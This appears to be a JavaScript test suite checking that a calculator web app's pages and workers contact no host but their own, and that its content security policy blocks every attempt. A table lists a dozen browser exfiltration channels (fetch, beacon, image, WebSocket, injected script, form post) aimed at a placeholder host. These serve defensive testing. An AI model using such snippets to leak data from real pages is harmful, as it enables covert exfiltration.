/** Nothing leaves: no page and no worker sends anything to another host, and none could. */

import assert from "node:assert/strict";
import test from "node:test";

import { Calculator } from "./support/calculator.mjs";
import { WHOLE, untilWholeAnswered } from "./support/cases.mjs";
import { filesOf } from "./support/files.mjs";
import { Ledger } from "./support/ledger.mjs";
import { built } from "./support/places.mjs";
import { today, until } from "./support/stage.mjs";

/** A host that exists nowhere. Plain http, so that the trap could read the whole request. */
const ELSEWHERE = "http://elsewhere.invalid/";

/** Every way in which a script may try to send something, `URL` standing for the address. */
const ATTEMPTS = {
  "fetch": "fetch(URL).catch(() => {})",
  "opaque-fetch": "fetch(URL, { mode: 'no-cors' }).catch(() => {})",
  "request": "{ const r = new XMLHttpRequest(); r.open('GET', URL); r.onerror = () => {}; try { r.send() } catch (e) {} }",
  "image": "new Image().src = URL",
  "beacon": "navigator.sendBeacon(URL, 'x')",
  "events": "new EventSource(URL)",
  "socket": "try { new WebSocket(URL.replace('http', 'ws')) } catch (e) {}",
  "script": "document.head.append(Object.assign(document.createElement('script'), { src: URL }))",
  "module": "import(URL).catch(() => {})",
  "style": "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: URL }))",
  "frame": "document.body.append(Object.assign(document.createElement('iframe'), { src: URL }))",
  "form": `{ const f = Object.assign(document.createElement('form'), { action: URL, method: 'post', target: 'other' });
             document.body.append(f); f.submit() }`,
};

/** The module that answers. */
const MODULE = "page_bg.wasm";

// That nothing foreign was asked is asserted at the end of every test; this one is to do everything that there is to do.
test("a whole session asks only its own host", today(async stage => {
  const { tab } = stage;
  await Calculator.open(stage);
  await stage.untilKept();
  await tab.reload();
  for (const path of filesOf(built("site")).filter(path => path.endsWith(".html"))) {
    await tab.open(stage.url(path));
    await tab.until(() => document.documentElement.dataset.ready !== "no");
  }
  // The work itself: all doors, and a list of households in a worker.
  const page = await Calculator.open(stage, WHOLE);
  await untilWholeAnswered(tab);
  await page.door("everything").open();
  const ledger = await Ledger.open(stage);
  await ledger.work();
  assert.deepEqual(await stage.foreign(), []);
  // The record is worth something only if it holds what pages and service workers are known to ask for.
  for (const [kind, path] of [["page", MODULE], ["service_worker", MODULE], ["service_worker", "style.css"]]) {
    const isRecorded = stage.record.requests.some(asked => asked.kind === kind && asked.url === stage.url(path));
    assert(isRecorded, `the record lacks ${path} of a ${kind}`);
  }
}));

test("the content policy stops every attempt to send", today(async stage => {
  const { tab } = stage;
  const page = await Calculator.open(stage);
  await stage.untilKept();
  await page.reload();
  await tab.run(() => {
    /** @type {string[]} */
    const stopped = [];
    Object.assign(window, { stopped });
    addEventListener("securitypolicyviolation", ({ blockedURI }) => stopped.push(blockedURI));
  });
  for (const [name, script] of Object.entries(ATTEMPTS)) {
    await tab.page.evaluate(`${script.replaceAll("URL", JSON.stringify(ELSEWHERE + name))}; 0`);
    await until(() => tab.run(() => {
      const stopped = Reflect.get(window, "stopped");
      return stopped.some((/** @type {string} */ address) => address.includes("elsewhere.invalid")) && stopped.splice(0);
    })).catch(error => assert.fail(`No violation was reported for ${name}. ${error.message}`));
  }

  // A worker from a blob inherits the policy: its own host answers, another does not.
  const style = stage.url("style.css");
  const answered = await tab.run((own, other) => new Promise(done => {
    const worker = `Promise.all([${JSON.stringify(own)}, ${JSON.stringify(other)}].map(address =>
      fetch(address, { mode: "no-cors" }).then(() => true, () => false))).then(postMessage)`;
    const address = URL.createObjectURL(new Blob([worker], { type: "text/javascript" }));
    new Worker(address).onmessage = event => done(event.data);
  }), style, `${ELSEWHERE}worker`);
  assert.deepEqual(answered, [true, false], "(own host answered, other host answered)");
  const isRecorded = stage.record.requests.some(({ kind, url }) => kind === "worker" && url === style);
  assert(isRecorded, "workers are not recorded");
  assert.deepEqual(stage.trap.caught, []);

  // The trap works: from a document without a policy the same request does arrive there.
  const free = await stage.openTab();
  await free.run(address => fetch(address, { mode: "no-cors" }).then(() => {}, () => {}), `${ELSEWHERE}control`);
  assert.deepEqual(stage.trap.caught, [`GET ${ELSEWHERE}control HTTP/1.1`]);
  await stage.takeComplaints();
  stage.forgetForeign();
}));

test("nothing is evaluated once the module stands", today(async stage => {
  await Calculator.open(stage);
  // Commands of the protocol are exempt from the policy while they run; what they put off is not.
  const answer = await stage.tab.run(() => new Promise(done => setTimeout(() => {
    try {
      done(new Function("return 'evaluated'")());
    } catch (error) {
      done(/** @type {Error} */ (error).name);
    }
  })));
  assert.equal(answer, "EvalError");
  await stage.takeComplaints();
}));
